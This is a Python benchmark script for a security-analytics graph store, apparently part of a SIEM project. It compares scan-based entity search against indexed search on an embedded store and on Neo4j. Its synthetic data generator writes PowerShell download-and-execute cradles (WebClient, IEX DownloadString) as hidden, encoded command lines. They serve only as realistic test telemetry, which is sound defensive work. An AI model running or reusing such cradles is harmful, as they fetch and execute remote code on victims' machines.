"""Entity search latency: a scan of every entity (before) vs the store's ``search_entities``.

Usage::

    .venv/bin/python benchmarks/bench_search.py [--sizes 8831 100000] [--repeat 7] [--skip-neo4j]
    .venv/bin/python benchmarks/bench_search.py --write-only [--sizes 100000]

For each size a generated graph shaped like a fleet (hosts, users, processes
whose command lines are often ``-enc`` stagers with a ``decoded_command``,
4104 scripts with text up to 64 KiB, domains, IPs, files, URLs) is written
to the embedded store and to Neo4j, then every query is timed both ways:

* ``scan``: ``scan_search(store.iter_entities(type), ...)``, which is what
  ``GET /v1/entities?q=`` did before stores had ``search_entities`` (read every
  entity of the type and compare lower-cased strings in Python);
* ``store``: ``store.search_entities(...)`` (TEXT indexes on Neo4j, a scan of
  node attributes on the embedded store).

Both must give the same hits (checked as sets per rank, when neither is cut
by the limit).  Each figure is the median of ``--repeat`` runs after one
untimed run, wall and client CPU, plus the Neo4j server's CPU when its PID is
known (a private server started here, or ``--neo4j-pid``).

``--write-only`` times ``upsert_entities`` of the generated graph into Neo4j
(new nodes, then the same entities again: merges), so the cost of the search
copies per entity can be compared with a checkout from before them
(``PYTHONPATH=<old checkout>``: that code has no ``search_entities``).

Neo4j: ``GRAPHSIEM_NEO4J_URI`` (+ ``_USER``/``_PASSWORD``) when set, otherwise a
private server with the deployed memory settings (1g heap, 512m page cache),
stopped at the end.  The database is cleared: point it at a scratch database.

Latest run (2026-11-29 02:30, load 4.0 -> 4.1, medians of 5): Neo4j, 100,000
entities, scan 2.5-2.7 s wall (1.8-1.9 s client CPU, ~0.8 s server CPU) ->
index 7-31 ms for every query whose scan reads everything; 8,831 entities
196-713 ms -> 14-43 ms.  Embedded, 100,000: 85-398 ms -> 0.1-122 ms (1.8-3.7x
less CPU; lowering 25 MB of script text is most of what is left).  Writes
(``--write-only``, alternating with the code from before, load 4.6 -> 1.8):
a new non-script entity 40.6 -> 83.7 us server CPU, 10.8 -> 19.8 us client;
a new 5.2 KiB script 115 -> 474 us server CPU.  See docs/performance.md,
"Entity search".
"""

from __future__ import annotations

import argparse
import base64
import os
import random
import shutil
import statistics
import sys
import tempfile
import time
from collections.abc import Callable, Sequence
from functools import partial
from pathlib import Path
from typing import Any

from graphsiem.model import Entity
from graphsiem.store.embedded import EmbeddedStore
from graphsiem.store.neo4j_server import Neo4jServer, start_private_server, stop_private_server
from graphsiem.store.neo4j_store import Neo4jStore

sys.path.insert(0, str(Path(__file__).resolve().parent))
from bench_store import Clock  # noqa: E402  (benchmarks/ is not a package)

WORDS = ("update", "inventory", "driver", "report", "backup", "sync", "agent", "svc", "helper",
         "office", "teams", "chrome", "edge", "python", "java", "node", "git", "msi", "temp",
         "cache", "config", "log", "data", "user", "admin", "scan", "patch", "cloud", "mail")
TLDS = ("com", "net", "org", "example", "io", "cn", "ru")
DECODED_WORD = "QuokkaLantern"
"""Only in a few decoded commands: the "decoded-command-only hit" query."""

QUERIES = [
    ("prefix, many hits", "ws-0"),
    ("prefix, few hits", "cdn-img"),
    ("inner substring", "img-deliv"),
    ("inner, common word", "inventory"),
    ("decoded-command only", DECODED_WORD.lower()),
    ("script text only", "get-wmiobject win32_bios"),
    ("no hit", "zz-no-such-thing"),
    ("no hit, 2 chars", "q~"),
    ("type filter: process", "powershell"),
]
LIMIT = 50
"""The API's default ``limit``."""


def _phrase(rng: random.Random, n: int) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(n))


def generate(n: int, *, seed: int = 11) -> list[Entity]:
    """``n`` entities in the proportions of a simulated fleet (processes and domains most)."""
    rng = random.Random(seed)
    hosts = max(n // 30, 10)
    entities = [Entity("host", f"ws-{i:05d}", f"WS-{i:05d}") for i in range(hosts)]
    entities += [Entity("user", f"corp\\user{i:05d}", f"CORP\\User{i:05d}") for i in range(n // 40)]
    entities += [Entity("domain", f"cdn-img-delivery{i}.example", f"cdn-img-delivery{i}.example")
                 for i in range(3)]
    while len(entities) < n:
        i = len(entities)
        kind = rng.random()
        if kind < 0.40:
            image = f"C:\\Program Files\\{rng.choice(WORDS).title()}\\{rng.choice(WORDS)}.exe"
            props: dict[str, Any] = {"image": image}
            if rng.random() < 0.15:
                text = (f"$c=New-Object Net.WebClient;$c.Headers.Add('X','{_phrase(rng, 3)}');"
                        f"IEX $c.DownloadString('http://{rng.choice(WORDS)}.{rng.choice(TLDS)}/"
                        f"{i}.ps1')")
                if rng.random() < 0.01:
                    text += f";# {DECODED_WORD}"
                encoded = base64.b64encode(text.encode("utf-16-le")).decode()
                value = f"powershell.exe -NoP -NonI -W Hidden -enc {encoded}"
                props["decoded_command"] = text
            else:
                value = f'"{image}" --{rng.choice(WORDS)} {_phrase(rng, rng.randint(1, 6))} /id:{i}'
            entities.append(Entity("process", f"{rng.getrandbits(64):016x}", value, props))
        elif kind < 0.45:
            size = 65_536 if rng.random() < 0.02 else rng.randint(200, 8_000)
            body = f"# {_phrase(rng, 4)} {i}\n"
            if rng.random() < 0.05:
                body += "Get-WmiObject Win32_BIOS | Select SerialNumber\n"
            text = (body + ("Write-Output '" + _phrase(rng, 5) + "'\n") * (size // 40))[:size]
            entities.append(Entity("script", f"{rng.getrandbits(64):016x}", text[:200],
                                   {"text": text, "length": len(text)}))
        elif kind < 0.65:
            name = f"{rng.choice(WORDS)}-{rng.choice(WORDS)}{i}.{rng.choice(TLDS)}"
            entities.append(Entity("domain", name, name))
        elif kind < 0.80:
            ip = f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
            entities.append(Entity("ip", ip, ip))
        elif kind < 0.92:
            path = f"C:\\Users\\user{rng.randrange(999)}\\AppData\\{rng.choice(WORDS)}\\{i}.dll"
            entities.append(Entity("file", f"{rng.getrandbits(128):032x}", path))
        else:
            url = f"http://{rng.choice(WORDS)}.{rng.choice(TLDS)}/{rng.choice(WORDS)}/{i}?id={i}"
            entities.append(Entity("url", url, url))
    return entities


def write(store: EmbeddedStore | Neo4jStore, entities: Sequence[Entity], batch: int = 10_000) -> None:
    for start in range(0, len(entities), batch):
        store.upsert_entities(entities[start:start + batch])
    store.flush()


def _median(clock: Clock, fn: Callable[[], Any], repeat: int) -> tuple[tuple[float, float, float], Any]:
    result = fn()  # untimed: caches, query plans
    runs = []
    for _ in range(repeat):
        runs.append(clock.measure(fn))
    walls = [r[0] for r in runs]
    mid = runs[walls.index(statistics.median_low(walls))]
    return mid, result


def _ms(spent: tuple[float, float, float]) -> str:
    wall, cpu, server = spent
    text = f"{wall * 1000:7.1f} ms wall, {cpu * 1000:6.1f} client CPU"
    return text + (f", {server * 1000:6.1f} server CPU" if server else "")


def _by_rank(hits: list[Any]) -> dict[int, set[tuple[str, str, str]]]:
    ranks: dict[int, set[tuple[str, str, str]]] = {}
    for hit in hits:
        ranks.setdefault(hit.rank, set()).add((hit.entity.type, hit.entity.key, hit.matched))
    return ranks


def _scan(scan_search: Callable[..., Any], store: EmbeddedStore | Neo4jStore, needle: str,
          entity_type: str | None) -> Any:
    """What the API did before ``search_entities``: read every entity of the type."""
    return scan_search(store.iter_entities(entity_type), needle, LIMIT)


def bench_search(store: EmbeddedStore | Neo4jStore, clock: Clock, repeat: int) -> None:
    from graphsiem.store.base import scan_search

    for label, needle in QUERIES:
        entity_type = "process" if label.startswith("type filter") else None
        scan, scanned = _median(
            clock, partial(_scan, scan_search, store, needle, entity_type), repeat)
        indexed, found = _median(
            clock, partial(store.search_entities, needle, entity_type=entity_type, limit=LIMIT),
            repeat)
        same = ""
        if len(scanned) <= LIMIT and len(found) <= LIMIT and _by_rank(scanned) != _by_rank(found):
            same = "  HITS DIFFER"
        print(f"  {label:<22} {needle!r:<28} {len(found):3d} hits | scan {_ms(scan)} | "
              f"store {_ms(indexed)} | {scan[0] / indexed[0]:6.1f}x{same}")


def bench_writes(store: Neo4jStore, entities: Sequence[Entity], clock: Clock, repeat: int) -> None:
    """``upsert_entities`` of every entity but the scripts, then of the scripts alone.

    Split because a script's text is most of the bytes a search copy indexes
    (a trigram per character), so the two costs are reported apart.
    """
    scripts = [e for e in entities if e.type == "script"]
    others = [e for e in entities if e.type != "script"]
    chars = sum(len(e.props["text"]) for e in scripts)
    for label, part in ((f"{len(others):,} non-scripts", others),
                        (f"{len(scripts):,} scripts ({chars / len(scripts) / 1024:.1f} KiB avg)", scripts)):
        new, merged = [], []
        for _ in range(repeat + 1):  # the first round warms the server up
            store.clear()
            new.append(clock.measure(partial(write, store, part)))
            merged.append(clock.measure(partial(write, store, part)))
        n = len(part)
        print(f"  {label}:")
        for kind, runs in (("new", new[1:]), ("merge", merged[1:])):
            walls = sorted(r[0] for r in runs)
            mid = next(r for r in runs if r[0] == walls[len(walls) // 2])
            server = f", server CPU {mid[2]:.2f}s = {mid[2] / n * 1e6:.1f} us/entity" if mid[2] else ""
            print(f"    upsert_entities {kind:<6}: {n / mid[0]:8,.0f} entities/s wall ({mid[0]:.2f}s; "
                  f"client CPU {mid[1]:.2f}s = {mid[1] / n * 1e6:.1f} us/entity{server}; "
                  f"{len(runs)} runs {n / walls[-1]:,.0f}-{n / walls[0]:,.0f}/s)")


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--sizes", type=int, nargs="+", default=[8_831, 100_000])
    parser.add_argument("--repeat", type=int, default=7)
    parser.add_argument("--skip-neo4j", action="store_true")
    parser.add_argument("--write-only", action="store_true",
                        help="only time upsert_entities into Neo4j (works on older checkouts)")
    parser.add_argument("--neo4j-pid", type=int, help="PID of the server given by URI, for its CPU time")
    args = parser.parse_args(argv)
    print(f"load average {os.getloadavg()[0]:.1f} on {os.cpu_count()} CPUs; limit {LIMIT}")

    server, home, server_pid = None, None, args.neo4j_pid
    if not args.skip_neo4j:
        server = Neo4jServer.from_env()
        if server is None:
            os.environ.setdefault("NEO4J_HEAP", "1g")
            os.environ.setdefault("NEO4J_PAGECACHE", "512m")
            home = Path(tempfile.mkdtemp(prefix="bench-search-neo4j-"))
            server = start_private_server(home)
            server_pid = int((home / "neo4j.pid").read_text())
    try:
        neo4j = server.connect() if server is not None else None
        clock = Clock(server_pid)
        for size in args.sizes:
            entities = generate(size)
            counts: dict[str, int] = {}
            for e in entities:
                counts[e.type] = counts.get(e.type, 0) + 1
            print(f"\n{size:,} entities: {dict(sorted(counts.items()))}")
            if args.write_only:
                if neo4j is not None:
                    bench_writes(neo4j, entities, clock, args.repeat)
                continue
            with tempfile.TemporaryDirectory() as tmp:
                embedded = EmbeddedStore(Path(tmp) / "graph")
                write(embedded, entities)
                print(" embedded:")
                bench_search(embedded, Clock(), args.repeat)
                embedded.close()
            if neo4j is not None:
                neo4j.clear()
                began = time.perf_counter()
                write(neo4j, entities)
                print(f" neo4j (written in {time.perf_counter() - began:.1f}s):")
                bench_search(neo4j, clock, args.repeat)
                neo4j.clear()
        if neo4j is not None:
            neo4j.close()
    finally:
        if home is not None:
            stop_private_server(home)
            shutil.rmtree(home, ignore_errors=True)
    print(f"\nload average at the end {os.getloadavg()[0]:.1f}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
